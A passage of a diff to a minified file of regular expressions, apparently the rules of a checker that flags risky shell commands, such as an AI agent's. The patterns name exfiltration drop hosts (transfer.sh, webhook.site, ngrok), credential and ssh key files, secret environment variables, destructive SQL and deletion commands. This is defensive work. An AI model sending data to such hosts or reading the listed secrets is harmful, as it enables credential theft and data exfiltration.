@@ -1337,1549 +1337,1549 @@ eDevelopmentStorage=true$|^(?:[a-z][a-z0-9+.-]*://)?(?:[^@/\\\\s]*@)?(?:localhos
 st|tests|testing|scratch|tmp)(?:[_-][\\\\w\\\\u{FFFC}-]*)?\\\\d*(?:\\\\.(?:db|sqlite3?))?(?:\\\\?.*)?$","u"],"passing_file":["^(?::memory:$|/(?:tmp|var/tmp|dev/shm)/(?!.*\
 \\\\.\\\\.))"],"passing_address":["^(?:(?:file|sqlite\\\\d?):(?://)?/?)?/(?:tmp|var/tmp|dev/shm)/(?!.*\\\\.\\\\.)|^(?:file:|sqlite\\\\d?:(?://)?/?)?:memory:(?:\\\\?.*)?$|^jdb\
 c:(?:h2|hsqldb|derby)::?mem"],"file_client":["^(?:sqlite3?|duckdb)$"],"http_client":["^(?:curl|wget|https?|xhs?)$"],"beyond_database":["^(?:drop-database|drop-t\
-ablespace|drop-owned|shutdown|flush)$"],"local_host":["^(localhost|127\\\\.[\\\\d.]+|0\\\\.0\\\\.0\\\\.0|\\\\[?::1\\\\]?|host\\\\.docker\\\\.internal|10\\\\.[\\\\d.]+|192\\\\.168\\\\.[\\\\\
-d.]+|172\\\\.(1[6-9]|2\\\\d|3[01])\\\\.[\\\\d.]+|[a-z][\\\\w-]*|.*\\\\.(local|localhost|test|internal|svc))$"],"drop_host":["(^|\\\\.)(transfer\\\\.sh|file\\\\.io|0x0\\\\.st|termbi\
-n\\\\.com|pastebin\\\\.com|paste\\\\.ee|hastebin\\\\.com|ix\\\\.io|sprunge\\\\.us|dpaste\\\\.(org|com)|webhook\\\\.site|requestbin\\\\.(com|net)|requestcatcher\\\\.com|pipedream\\\\.\
-net|beeceptor\\\\.com|interact\\\\.sh|oast\\\\.\\\\w+|burpcollaborator\\\\.net|ngrok(-free)?\\\\.(io|app|dev)|trycloudflare\\\\.com|serveo\\\\.net|localtunnel\\\\.me|loca\\\\.lt|an\
-onfiles\\\\.com|gofile\\\\.io|bashupload\\\\.com|temp\\\\.sh|catbox\\\\.moe|filebin\\\\.net|oshi\\\\.at|wetransfer\\\\.com|discord(app)?\\\\.com|hooks\\\\.slack\\\\.com|api\\\\.telegra\
-m\\\\.org|dnslog\\\\.cn|canarytokens\\\\.com)$|^\\\\d{1,3}(\\\\.\\\\d{1,3}){3}$|(^|[.-])(evil|attack(er)?|exfil\\\\w*|malicious|malware|c2|hacker|phish\\\\w*|leak\\\\w*|collect(o\
-r)?|drop|steal\\\\w*|bad(actor|guy)?|rogue|sink)([.-]|\\\\d|$)","i"],"file_folder":["(^|/)(bin|sbin|scripts|script|hooks|\\\\.husky|tools|ci)$"],"daemon_path":["^/(?:\
-usr/)?(?:local/)?(?:sbin|lib(?:exec)?)/"],"lsof_port":["^(?:-\\\\w*i)?(?:[46]?(?:tcp|udp))?(?:@[\\\\w.-]+)?:(\\\\w+(?:,\\\\w+)*)$","i"],"few_lines":["^(?:-(?:n ?|-lines\
-[= ])?(?:1?\\\\d|20|\\\\u{FFFC}.*))?$","u"],"one_line":["^(?:-n \\\\d{1,2}p|\\\\d{1,2}!d)$"],"matching_lines":["^(?:-n )?/((?:[^/\\\\\\\\]|\\\\\\\\.)*)/\\\\s*!d$|^(?:-n|--quiet|-\
--silent) (?:/((?:[^/\\\\\\\\]|\\\\\\\\.)*)/\\\\s*p|s([/|#,])((?:(?!\\\\3)[^\\\\\\\\\\\\n]|\\\\\\\\.)*)\\\\3.*p)$"],"word_everywhere":["^(root|pid|usr|bin|sbin|lib)$","i"],"ps_choice":[\
-"^-\\\\w*[pq](?:[\\\\d\\\\u{FFFC}]|$)|^-C|^%%|^--(?:p?pid|quick-pid)(?:=|$)|^\\\\d+(?:,\\\\d+)*$|^\\\\u{FFFC}","u"],"ps_all":["^-[aefFlAjwHTLcy]*[eA]|^a?u?x"],"find_by_name\
-":["^-(name|iname|path|ipath|wholename|iwholename|regex|iregex)$"],"find_by_property":["^-([acm](time|min)|newer\\\\w*|anewer|cnewer|user|uid|samefile|used)$"],"c\
-hoosing_filter":["^(?:[efz]?grep|rg|head|[gm]?awk|sed|fzf|shuf|test|\\\\[\\\\[?|cmp|diff|git)$"],"find_action":["^-(?:print0?|printf|fprint0?|fprintf|f?ls|exec|exec\
-dir|ok|okdir|delete)$"],"find_command":["^-(exec|execdir|ok|okdir)$"],"deleting_program":["^(.*/)?(rm|unlink|shred|rimraf|srm)$"],"temp_root":["^/(private/)?(tm\
-p|var/tmp|dev/shm)/*$"],"supplying_wrapper":["^(g?xargs|find|fd|parallel|[gm]?awk)$"],"fd":["^fd(find)?$"],"search_program":["^(find|ls|git|fd|fdfind)$"],"own_p\
-rogram":["^(?![~/])(?!.*(?:node_modules|vendor|env)/).*/"],"subcommand_word":["^[a-zA-Z][\\\\w:.-]*$"],"command_argument":["^(?:-{1,2}[\\\\w-]|[/~.$]|\\\\+|[\\\\w-]+[/.\
-=:]|[a-z][a-z0-9]*-[a-z])"],"command_end":["^(?:and|then|to|so|because|which|in|for|on|but|with|before|after|\\\\d+[.)])$"],"valuable_things":["^(?:(?:private|ssh\
-) keys?|api keys|all secrets|the secrets|stored (?:secrets|passwords)|saved passwords|(?:my |user |stored |saved |the )?credentials|\\\\.env file|the remote)$"],"\
-announcement":["(?:^|\\\\s)(?:(?:i|we|you|agent|the agent|then) (?:will|shall|must|should|can|could|am going to|are going to|plan to|intend to|want to|would like \
-to|need to|have to|ought to|am about to|are about to|'ll)|i'll|we'll|you'll|i'd like to|we'd like to|i'm going to|we're going to|i'm about to|we're about to|i'm\
- gonna|we're gonna|i'd|let's|lets|let me|let us|gonna|going to|about to|need to|needs to|need you to|want you to|like you to|have to|got to|gotta|can you|could \
-you|would you|will you|please|(?:plan|goal|task|idea|step|approach|next|solution|fix|strategy|aim|objective|job|thing|way|option|move) is to|try to|proceed to|c\
-ontinue to|make sure to|be sure to|remember to|don't forget to|do not forget to|don't hesitate to|do not hesitate to|feel free to|time to|best to|easiest to|sim\
-plest to|(?:then|now|next|first|finally|so|and) (?:we|i)|start by|begin by|by|i am|i'm|we are|we're|currently|now|ich|wir|je vais|nous allons|il faut|je dois|vo\
-y a|vamos a|hay que)$"],"own_announcement":["\\\\b(?:i'll|we'll|let me|let's|i'm going to|we're going to|(?:i|we) (?:will|need to|have to|must|am going to|are goi\
-ng to))\\\\b"],"signal_option":["^-(\\\\d+|(SIG)?(HUP|INT|QUIT|ILL|TRAP|ABRT|BUS|FPE|KILL|USR[12]|SEGV|PIPE|ALRM|TERM|CHLD|CONT|STOP|TSTP))$","i"],"affirmative_valu\
-e":["^(client|server|true|t|1|yes)$","i"],"negative_value":["^(false|f|0|no|none|off)$","i"],"bare_letter":["^-\\\\w*[rvqayzR]$"],"request_statement":["^\\\\s*DROP\\\
-\\s+(DATABASE|TABLE|SCHEMA|USER|MEASUREMENT|SERIES|VIEW|COLUMN)\\\\b|^\\\\s*(TRUNCATE\\\\s+\\\\S|DELETE\\\\s+FROM\\\\s|ALTER\\\\s+TABLE\\\\s|UPDATE\\\\s+\\\\S+\\\\s+SET\\\\s|GRANT\\\\s|RE\
-VOKE\\\\s)","i"],"request_fields":["(?:^|[?&])(?:query|q|sql|statement|stmt)=([^&#]*)|\\"(?:query|q|sql|statement|stmt)\\"\\\\s*:\\\\s*\\"((?:[^\\"\\\\\\\\]|\\\\\\\\.){1,4000})\\"\
-","gi"],"sql_path":["/(?:sql|query|statement|exec\\\\w*)\\\\b","i"],"own_server":["^(?:https?://)?(?:localhost|127\\\\.\\\\d+\\\\.\\\\d+\\\\.\\\\d+)(?::(?!8123|8086|9000|9200|7\
-474|8529|4200)\\\\d+)?(?:/|$)"],"sending_command":["^\\\\s*-?(?:put|mput|reput|send|append|mirror\\\\s+(?:-\\\\w*R\\\\w*|--reverse))\\\\s+(.*)$"],"editor_shell":["^\\\\s*:?\\\\\
-s*(?:[\\\\d,.$%]*!|[rw]\\\\s*!|silent!?\\\\s*!|term(?:inal)?\\\\s+|call\\\\s+system\\\\([\\"']|lua\\\\s+os\\\\.execute\\\\([\\"'])\\\\s*(.+?)(?:[\\"']\\\\))?$|^\\\\s*:?\\\\s*(?:sh(?:ell)?|t\
-erm(?:inal)?)!?\\\\s*$"],"container_engine":["^(?:docker|podman|nerdctl)$"],"plain_volume":["^[A-Za-z0-9][\\\\w.-]*:"],"bound_volume":["\\\\bvolume create\\\\b.* (?:-[o\
-dcH]|--(?:opt|driver|type|context|host)\\\\b)"],"database_image":["^(?:[\\\\w.-]+/)*(?:postgres|postgis|pgvector|timescaledb|mysql|mariadb|percona|redis|valkey|keyd\
-b|mongo|clickhouse-server|memcached)(?:[:@]|$)"],"container_network":[" --?net(?:work)?[= ](?:name=)?(?:host|container|ns|slirp\\\\w*|pasta)\\\\b| --(?:link|env-fil\
-e)\\\\b|(?:HOST(?!_AUTH_METHOD)|UR[IL]|ADDR|DSN|SERVICE)\\\\w*=| [A-Z_]+=\\\\S*://|\\\\.my\\\\.cnf|pgpass|pg_service|psqlrc"],"input_name":["^(?:[-=]|/dev/stdin)$"],"indi\
-rect_runs":["\\\\b(?:exec\\\\.Command(?:Context)?|Command::new|ProcessBuilder|Runtime\\\\S*\\\\.exec|Process\\\\.(?:run|start)(?:Sync)?|os\\\\.execute|io\\\\.popen)\\\\s*\\\\(\\\\s\
-*(?:ctx\\\\s*,\\\\s*)?(?![\\\\s\\"'\`)])|\\\\b(?:system2?|popen|execv[pe]*|System\\\\.(?:cmd|shell)|os:cmd|Open3\\\\.\\\\w+)\\\\s*\\\\(\\\\s*(?![\\\\s\\"'\`)])"],"command_texts":["([\\"']\
-)((?:sudo\\\\s+)?(?:rm|dd|shred|mkfs\\\\S*|git|chmod|chown|curl|wget)\\\\s(?:(?!\\\\1)[^\\\\\\\\\\\\n]){1,500})\\\\1"],"home_lookup":["\\\\bEnvironment\\\\.(?:GetFolderPath\\\\(\\\\s*E\
-nvironment\\\\.SpecialFolder\\\\.(?:UserProfile|Personal|MyDocuments)|GetEnvironmentVariable\\\\(\\\\s*\\"(?:HOME|USERPROFILE)\\")\\\\s*\\\\)|\\\\b(?:System\\\\.)?(?:homedir|user\
-_home!?)\\\\(\\\\)|\\\\$(?:HOME|env:USERPROFILE|env:HOME)\\\\b|\\\\bENV\\\\[[\\"']HOME[\\"']\\\\]|\\\\b(?:(?:std::)?env::|os[.:]|Sys\\\\.|System\\\\.)?(?:[gG]etenv|get_env!?|var(?:_o\
-s)?|getProperty)\\\\s*\\\\(?\\\\s*[\\"'](?:HOME|user\\\\.home)[\\"']\\\\s*\\\\)|\\\\b(?:Platform|ProcessInfo\\\\.processInfo|System)\\\\.environment\\\\[[\\"']HOME[\\"']\\\\]|\\\\$(?:::)?e\
-nv\\\\(HOME\\\\)|\\\\b(?:path\\\\.expand|expanduser|expand-file-name)\\\\s*\\\\(?\\\\s*[\\"']~[\\"']\\\\s*\\\\)","g"],"git_settings":["^core\\\\.(sshcommand|editor|pager|askpass|fsmo\
-nitor|gitproxy|alternaterefscommand)$|^(sequence\\\\.editor|diff\\\\.external|gpg(\\\\..+)?\\\\.program|pager\\\\..+|credential(\\\\..*)?\\\\.helper)$|^(diff|merge|filter|dif\
-ftool|mergetool)\\\\..+\\\\.(cmd|command|textconv|driver|clean|smudge|process|path)$|^(uploadpack\\\\.packobjectshook|sendemail\\\\.(tocmd|cccmd|headercmd))$","i"],"pro\
-duction_name":["(?:^|[^a-z])(?:prod|production|live)(?:[^a-z]|$)","i"],"standard_input":["^(?:-|/dev/stdin|/proc/self/fd/0|/dev/fd/0)$"],"shell_program":["^(?:b\
-a|da|z|k|mk|a|rba|ya)?sh$"],"output_device":["^/dev/(?:stdout|stderr|fd/[12])$"],"reliable_command":["^(?::|true|echo|printf|export|declare|local|set|alias|mkdi\
-r(?= -p))(?= |$)"],"changing_builtin":["^(?:set|shopt|source|\\\\.)$"],"unfollowed_state":["\\\\(\\\\(|\\\\[\\\\[[^\\\\]]{0,200}\\\\s-\\\\w\\\\w\\\\s|\\\\w\\\\[[^\\\\]\\\\n]{0,60}[=+-]|\\\\$\
-\\\\{\\\\w+:[^-+?=]|\\\\bIFS=|\\\\bprintf -v\\\\w|\\\\bread -\\\\w*a\\\\w|\\\\bfunctions\\\\[|\\\\bset -[oA]\\\\b|\\\\blocal \\\\$|\\\\bTRAP[A-Z]|\\\\bwait -p|\\\\b(?:let|eval|source|unset|integ\
-er|float|repeat|always|disable|unfunction|unhash|emulate|zmodload|getopts|coproc|shopt|enable|setopt|DEBUG|RETURN|ERR|BASH_ENV)\\\\b|(?:^|[;&|(\\\\n])\\\\s*\\\\.\\\\s"],"\
-printing_builtin":["^(?:echo|printf)$"],"secret_variable":["^(?:\\\\w+_)?(?:TOKEN|SECRET|PASSWORD|PASSWD|API_?KEY|SECRET_KEY|ACCESS_KEY|PRIVATE_KEY|CREDENTIALS?)$\
-"],"special_variable":["^(?:RANDOM|SRANDOM|SECONDS|LINENO|EPOCH\\\\w+|BASH\\\\w*|ZSH\\\\w*|OPT\\\\w+|REPLY|PIPESTATUS|PWD|OLDPWD|[EP]*[UGP]ID|DIRSTACK|FUNCNAME|GROUPS|S\
-HELLOPTS|HIST\\\\w+|COMP\\\\w+|MAPFILE|COPROC|IFS|_|status|argv|[a-z]*path|pipestatus|options|commands|functions|aliases|match|reply|signals|history|keymaps|widgets\
-|TTYIDLE|COLUMNS|LINES|HOST\\\\w*|MACHTYPE|OSTYPE|USERNAME|TRY_BLOCK_\\\\w+)$"],"unfollowed_builtin":["^(?:let|eval|source|\\\\.|shopt|enable|setopt|trap|declare|type\
-set|builtin|command)$"],"error_exit":["^set (?:-\\\\w*e\\\\w*|-\\\\w*o errexit)(?: -\\\\w+| -o \\\\w+| pipefail)*$"],"waiting_command":["^(?:wait|sleep|usleep|break|exit|\
-return|read|inotifywait|fswatch|select|wait4|flock|nc|curl|wget|timeout)$"],"endless":["^yes\\\\b|^(?:cat|dd|tr|base64|xxd|od) (?!.*\\\\bcount=).*/dev/(?:zero|u?ran\
-dom|full)(?: |$)"],"early_code":["\\\\b(?:BEGIN|CHECK|INIT|UNITCHECK|use|no|require)\\\\b"],"checking_option":["^(?:c|check|[eElwW]|MO=\\\\w+)$"],"process_name":["[\\"\
-'/|(^](?!name|pid|cmd|exe|comm|info)([a-z][\\\\w.-]{1,30})(?=[\\"'/|)$])","g"],"git_filter":["^(?:stripspace|column|interpret-trailers|mailinfo|fmt-merge-msg)$"],"\
-harmless":["^[\\\\w.-]*%[\\\\d.]*[gfe][\\\\w.-]*$|^[\\\\s,:.-]$"],"jq_choosing":["(?:[!=<>]=\\\\s*|\\\\[\\\\s*)\\\\$\\\\w+|(?:[!=<>]=\\\\s*|\\\\[\\\\s*|\\\\.\\\\s*)\\"(?:[^\\"\\\\\\\\]|\\\\\\\\.)*\\"\
-|(?:test|startswith|endswith|contains|inside|has|split|r?index|match|capture|scan|[lr]trimstr|error|getpath|del)\\\\s*\\\\(\\\\s*\\"(?:[^\\"\\\\\\\\]|\\\\\\\\.)*\\"|(?:input_fil\
-ename|str[pf]time)\\\\s*\\\\(\\\\s*\\"(?:[^\\"\\\\\\\\]|\\\\\\\\.)*\\"","g"],"plain_text":["^[\\\\w\\\\u{FFFC}][\\\\w\\\\u{FFFC}.@:=,-]*$|^(?:[\\\\s,:=@._-]|\\\\\\\\[nt])?$","u"],"jq_making":\
-["\\\\b(?:implode|fromjson|ltrimstr|rtrimstr|ascii_downcase|ascii_upcase|gsub|sub|reverse|tojson|input)\\\\b|@base\\\\d+d|@uri"],"template":["[._-](example|sample|tem\
-plate|dist|tpl|tmpl|defaults?)$"],"ssh":["(^|/)\\\\.ssh(/|$)"],"ssh_settings":["/(config|known_hosts[^/]*|authorized_keys2?|[^/]+\\\\.pub|environment|rc)$"],"memory\
-":["^/proc/[^/]+/mem$|^/dev/k?mem$|^/proc/kcore$"],"temp":["^/(tmp|var/tmp|var/folders|private/tmp|private/var/folders|dev/shm|run/user/\\\\d+)(/|$)"],"package_ca\
-che":["^/var/(cache|lib/apt/lists)/"],"system_tree":["^/([^/]+|(usr|var|etc|system|library)/[^/]+|usr/lib(32|64)?/[^/]+-linux-gnu[^/]*|var/lib/(dpkg|rpm|pacman|\
-apt))$"],"local_system":["^/(usr/local|usr/src|opt|srv|var/www|etc/apt/(sources\\\\.list\\\\.d|keyrings|trusted\\\\.gpg\\\\.d|preferences\\\\.d|apt\\\\.conf\\\\.d)|usr/share/\
-keyrings)(/|$)"],"disposable_name":["^\\\\.coverage\\\\..+$|^\\\\.tsbuildinfo$|^\\\\.venv[-_.]?\\\\w[\\\\w.-]*$|^venv-?\\\\d[\\\\d.]*$|^(tmp|temp|test|scratch|demo|dummy|build|\
-dist|out|cmake-build|cache|bazel)[-_.].+$|.+[-_.](tmp|temp|cache|build|dist|out|output|bak|results?|coverage|artifacts?|generated|objs)$|.+\\\\.(egg-info|dist-inf\
-o|pyc|pyo|o|obj|a|so|class|log|tmp|temp|bak|orig|rej|swp|swo|tsbuildinfo|gcda|gcno|profraw|prof|out|pid|lock|d|map|cache|snap|tgz|whl|dll|dylib|exe|wasm|min\\\\.j\
-s|min\\\\.css|test\\\\.db)$|.+~$|^\\\\.#.*|^core\\\\.\\\\d+$|^test[_-]?repo.*|^my[-_]?test.*"],"device":["^/dev/(?:(?:tcp|udp|pts|fd)/|(?:stdin|stdout|stderr|tty|fd|null|\
-zero|full|random|urandom)$)"],"other_place":["^(?:-h|-u$|--host|--login-path|\\\\w*(?:HOST|URL|SERVICE)\\\\w*=)|^(?!db[.[][^/:]*\\\\()\\\\S*[.:@=]\\\\S*$|\\\\b(?:connect|Mo\
-ngo)\\\\s*\\\\(|\\\\b(?:host|hostaddr|service)=|\\\\\\\\c(?:onnect)?\\\\b|^[^ ]*\\\\uFFFC"],"local_wrapper":["^(?:(?:ba|da|z|a)?sh|env|timeout|nohup|nice|time|xargs|find|awk|\
-python[\\\\d.]*|node|perl|ruby|php|sudo|su)$"],"key_scripts":["\\\\bredis\\\\.p?call\\\\s*\\\\(\\\\s*[\\"']flush(?:all|db)\\\\b|[\\"'](?:KEYS|SCAN|HSCAN|SSCAN|ZSCAN)[\\"'][\\\\s\\\\\
-S]*[\\"'](?:DEL|UNLINK)[\\"']|\\\\b(?:for|while)\\\\b[\\\\s\\\\S]*[\\"'](?:DEL|UNLINK)[\\"']|[\\"'](?:DEL|UNLINK)[\\"']\\\\s*,\\\\s*unpack\\\\s*\\\\(\\\\s*redis\\\\.p?call\\\\b|\\\\bredis\\\\.\
-p?call\\\\s*\\\\(\\\\s*(?![\\"'])[\\\\s\\\\S]*\\\\bflush(?:all|db)\\\\b","i"],"credential_name":["^id_(rsa|dsa|ecdsa|ed25519)(_sk)?([._-].*)?(?<!\\\\.pub)$|\\\\.(p12|pfx|jks|keyst\
-ore|kdbx|ppk|keychain|keychain-db|key)$|^(?!.*(cert|chain|\\\\bca\\\\b|bundle|public|\\\\bpub\\\\b|\\\\bcrt\\\\b|dhparam|roots?)).*\\\\.pem$|^(app|prod|production|staging|dev\
-|db|my)?[-_.]?(secrets?|passwords?|passwd|tokens?)(\\\\.(prod|production|staging|dev|local|enc))?\\\\.(json|ya?ml|toml|ini|txt|env|csv|cfg|conf|properties|xml|db|sq\
-lite)$|^(app|prod|production|staging|dev|db|my)?[-_.]?(api|access)[-_]?keys?(\\\\.(prod|production|staging|dev|local|enc))?\\\\.(json|ya?ml|toml|ini|txt|env|csv|cfg\
-|conf|properties|xml|db|sqlite)$|^(service[-_]?account|client[-_]?secrets?|gcp[-_]?key|sa[-_]?key|firebase-adminsdk).*\\\\.json$|(^|[-_.])(api|secret|private|acce\
-ss|auth)[-_]?(key|token)s?(\\\\.(json|txt|ya?ml|pem|key|env))?$|^(login data|web data)( for account)?(-journal)?$|^vault[-_]pass(word)?(\\\\.txt)?$|^\\\\.vault[-_]pas\
-s.*|\\\\.kubeconfig$"],"fixture_folder":["(^|/)(fixtures?|__fixtures__|testdata|test[-_]data|test[-_]fixtures)/"],"fixture_key":["^(fake|dummy|mock|example|sample\
-|test|invalid|expired|self[-_]?signed|server|client|localhost|leaf|agent\\\\d)"],"windows_folder":["[*?[{]|^(?:inetpub|documents and settings|windows|program ?fil\
-es.*|programdata|system.*|users|boot|efi|recovery|perflogs|\\\\$.*)$"],"package_store":["^\\\\.(npm|yarn|pnpm|cargo|rustup|m2|gradle|nuget|cache|node-gyp|electron|c\
-ypress|conda)$"],"counting_flag":["^(?:-q|-c|--quiet|--count)$"],"listing_flag":["^(?:-l|--files-with-matches|--files)$"],"printing_names":["^sed (?:-n (?=.*p \\\
-\\S+$))?(?:-E )?s(.)=\\\\.\\\\*\\\\$?\\\\1=?(?:(?!\\\\1)[^&\\\\\\\\;\\\\n])*\\\\1[gp]?(?: (?:\\\\S*\\\\/)?\\\\.env(?:\\\\.\\\\w+)?)?$|^jq (?:-\\\\w+ )*(?:\\\\.(?:data|stringData)(?: ?\\\\| ?| ))?\
-(?:keys(?:_unsorted)?(?:\\\\[\\\\])?|length)$|^cut (?:-z )?(?:-d ?= -f ?1|-f ?1 -d ?=)(?: (?:\\\\S*\\\\/)?\\\\.env(?:\\\\.\\\\w+)?)?$|^[ef]?grep (?:-\\\\w*o\\\\w* |-o -E |-E -o )\
-\\\\^(?:export )?(?:\\\\[\\\\^=#?\\\\]|\\\\[\\\\^#=\\\\]|\\\\[(?:A-Z|a-z|0-9|_)+\\\\]|[\\\\w()]|\\\\\\\\w)+(?:[*+]|\\\\\\\\\\\\+)?\\\\)?=?(?: (?:\\\\S*\\\\/)?\\\\.env(?:\\\\.\\\\w+)*)*$|^(?:[ef]?grep|rg\
-)(?: -[nEFrhHswS]+)* (?:\\\\^|\\\\\\\\b)?\\\\(?(?:(?:NEXT_PUBLIC|NUXT_PUBLIC|EXPO_PUBLIC|VITE|REACT_APP|GATSBY|PUBLIC)_\\\\w+|(?:[A-Z\\\\d]+_)+(?:HOST|HOSTNAME|PORT|ENV|MOD\
-E|PROVIDER|REGION|LOG_LEVEL|DEBUG|ENABLED|TIMEOUT|VERSION)|(?:NEXT_PUBLIC|NUXT_PUBLIC|EXPO_PUBLIC|VITE|REACT_APP|GATSBY|PUBLIC)_\\\\(\\\\w+(?:\\\\|\\\\w+)*\\\\))(?:\\\\\\\\?\\\
-\\|(?:(?:NEXT_PUBLIC|NUXT_PUBLIC|EXPO_PUBLIC|VITE|REACT_APP|GATSBY|PUBLIC)_\\\\w+|(?:[A-Z\\\\d]+_)+(?:HOST|HOSTNAME|PORT|ENV|MODE|PROVIDER|REGION|LOG_LEVEL|DEBUG|ENA\
-BLED|TIMEOUT|VERSION)|(?:NEXT_PUBLIC|NUXT_PUBLIC|EXPO_PUBLIC|VITE|REACT_APP|GATSBY|PUBLIC)_\\\\(\\\\w+(?:\\\\|\\\\w+)*\\\\)))*\\\\)?=?(?: -S| (?:\\\\S*/)?\\\\.env[\\\\w.*-]*| (?!\
-[~/])[\\\\w./*-]+(?<!\\\\.(?:json|ya?ml|toml|ini|cfg|conf|pem|key)))*$|^[gm]?awk -F ?=(?: (?:\\\\S*\\\\/)?\\\\.env(?:\\\\.\\\\w+)*)* (?:NF|\\\\/[^/{}]*\\\\/|!\\\\/\\\\^#\\\\/(?: ?&& ?N\
-F)?)? ?\\\\{ ?print \\\\$1;? ?\\\\}$"],"shows_more":["\\u00a7|\\\\.env\\\\b|\\\\$[\\\\d&~+\`]|\\\\$'|\\\\b(?:eval|exec|compile|Function|globals|locals|vars|getattr|setattr|inspect|\
-traceback|pdb|breakpoint|__\\\\w+__|arguments|gc|_getframe|dis|ctypes|debugger|binding|instance_variable\\\\w*|local_variables|ObjectSpace|read\\\\w*|open\\\\w*|load_do\
-tenv|[dD]otenv\\\\w*|fileinput|linecache|create(?:ReadStream|Interface)|File|IO|subprocess|system|popen|child_process|spawn\\\\w*|exec\\\\w*|import_module|importlib|r\
-unpy|Bun|Deno|throw|except|catch|rescue|globalThis|global|window|self|this|RegExp|Regexp|MatchData|post_match|pre_match|rightContext|leftContext|lastMatch|proto\
-type|class|refine|import|require)\\\\b|(?<![\\\\w.])(?:len|sorted|list|set|print|str|Boolean|Object|Array|String|console|re|fs)\\\\s*=(?!=)|\\\\bdef (?:len|sorted|list|\
-set|print)\\\\b|\\\\bfunction (?:Boolean|Object)\\\\b"],"sourcing":["^reads (?:source|\\\\.) (?:\\\\.?/)?(?:[\\\\w.-]+/)*(?:\\\\.env(?:\\\\.[\\\\w-]+)*|\\\\w[\\\\w-]*\\\\.env)$"],"line\
-_filter":["^(?:cat|wc(?!.* --files0)|[ef]?grep(?! -\\\\S*[oPzr])|rg(?! -\\\\S*[or])|sort(?!.* (?:-\\\\w*o|--output|--files0))|uniq(?! [^-]| .* [^-])|head(?! -c)|tail(\
-?! -c)|env|(?:docker|podman) (?:inspect|exec (?:-\\\\w+ )*\\\\S+ (?:env|printenv)$)|kubectl get|oc get) ?"],"secret_listing":["^(?:kubectl|oc)$"],"environment_listi\
-ng":["^(?:docker|podman) (?:inspect .*\\\\{\\\\{range \\\\.Config\\\\.Env\\\\}\\\\}\\\\{\\\\{println \\\\.\\\\}\\\\}\\\\{\\\\{end\\\\}\\\\}|exec (?:-\\\\w+ )*\\\\S+ (?:env|printenv)$)"],"counter\
-":["^(?:wc|sort|head|tail|uniq|[ef]?grep)$"],"file_test":["^(?:test|\\\\[) (?:! )?-[ef] \\\\S*\\\\.env"],"settings_file":["(?:^|/)\\\\.env(?:\\\\.[\\\\w-]+)*$"],"text_filte\
-r":["^(?:cat|g?sed|envsubst|[gm]?awk|[ef]?grep)$"],"copying":["^writes cp (?:\\\\./)?(?:[\\\\w-]+/)*\\\\.?env[\\\\w.-]*[._-](?:example|sample|template|tpl|dist|defaults\
-?) (?:\\\\./)?(?:[\\\\w-]+/)*\\\\.env(?:\\\\.[\\\\w-]+)*$"],"awk_comparison":["(?:\\\\$\\\\w+|\\\\bNR)\\\\s*==\\\\s*(?:\\"[^\\"\\\\n]{2,}\\"|\\\\d+|[A-Za-z]\\\\w*|\\\\u{FFFC})|\\\\bindex\\\\(\\\\s*\
-\\\\$\\\\w+\\\\s*,\\\\s*\\"[^\\"\\\\n]{2,}\\"","u"],"awk_field":["^\\\\s*\\\\{\\\\s*print\\\\s*(?:\\\\$(?:\\\\d|NF))?\\\\s*;?\\\\s*\\\\}\\\\s*$"],"sed_command":["(?<between>[\\\\s;{}!]+|#.*|\\\\d+(\
-?:~\\\\d+)?|\\\\$|,\\\\s*[+~]?|I(?=[\\\\s,!a-z])|(?:(?=\\\\/)|\\\\\\\\)(?<quote>[\\\\s\\\\S])(?:\\\\\\\\[\\\\s\\\\S]|\\\\[\\\\^?\\\\]?(?:\\\\[:\\\\w+:\\\\]|[^\\\\]\\\\n])*\\\\]|(?!\\\\k<quote>)[^\\\\\\\\[])*\\\\k\
-<quote>)|s(?<delimiter>[^\\\\w\\\\s\\\\\\\\]|_)(?<pattern>(?:\\\\\\\\[\\\\s\\\\S]|\\\\[\\\\^?\\\\]?(?:\\\\[:\\\\w+:\\\\]|[^\\\\]\\\\n])*\\\\]|(?!\\\\k<delimiter>)[^\\\\\\\\[])*)\\\\k<delimiter>(?<replac\
-ement>(?:\\\\\\\\[\\\\s\\\\S]|(?!\\\\k<delimiter>)[^\\\\\\\\])*)\\\\k<delimiter>(?<flags>[gpeimIM\\\\d]*)(?:w(?<target>.*))?|(?<other>y(?<mark>[^\\\\w\\\\s\\\\\\\\])(?:\\\\\\\\[\\\\s\\\\S]|(?!\\\\\
-k<mark>)[^\\\\\\\\])*\\\\k<mark>(?:\\\\\\\\[\\\\s\\\\S]|(?!\\\\k<mark>)[^\\\\\\\\])*\\\\k<mark>|[aic](?:\\\\\\\\\\\\n|.)*|[N=gGhHxzF]|l\\\\s*\\\\d*|[:btTv][^;\\\\n}]*)|e(?<command>.*)|[wW](?<out\
-put>.*)|[rR](?<input>.*)|(?<select>[pdnPD]|[qQ]\\\\s*\\\\d*)","y"],"group_in_path":["(?<=[\\\\w.\\\\]}])/\\\\(([\\\\w.-]{1,60})\\\\)(?=[/\\\\s]|$)","g"],"brace_count":["^\\\\{-?\\\
-\\d{1,9}\\\\.\\\\.-?\\\\d{1,9}(?:\\\\.\\\\.-?\\\\d{1,6})?\\\\}$"],"brace_sequence":["^(?:(-?\\\\d{1,9})\\\\.\\\\.(-?\\\\d{1,9})|([A-Za-z])\\\\.\\\\.([A-Za-z]))(?:\\\\.\\\\.-?(\\\\d{1,6}))?$"],"\
-brace_literal":["\\\\\\\\[\\\\s\\\\S]?|'[^']*'?|\\"(?:\\\\\\\\[\\\\s\\\\S]|[^\\"\\\\\\\\])*\\"?|\\\\x60(?:\\\\\\\\[\\\\s\\\\S]|[^\\\\x60\\\\\\\\])*\\\\x60?|\\\\$\\\\{(?:[^{}]|\\\\{(?:[^{}]|\\\\{[^{}]*\\\\})*\\\\})\
-*\\\\}|\\\\$\\\\((?:[^()]|\\\\((?:[^()]|\\\\([^()]*\\\\))*\\\\))*\\\\)|[^\\\\\\\\'\\"\\\\x60$\\\\x7b\\\\x7d,]+|[\\\\s\\\\S]","y"],"printf_escape":["\\\\\\\\(?:x([\\\\da-fA-F]{1,2})|u([\\\\da-fA-F]{1,\
-4})|U([\\\\da-fA-F]{1,8})|0?([0-7]{1,3})|([\\\\s\\\\S]))","g"],"printf_directive":["%%|%[-+ #0]*(\\\\d*|\\\\*)(?:\\\\.(\\\\d+|\\\\*))?([a-zA-Z])|\\\\\\\\(?:x\\\\p{AHex}{1,2}|u\\\\p{AHe\
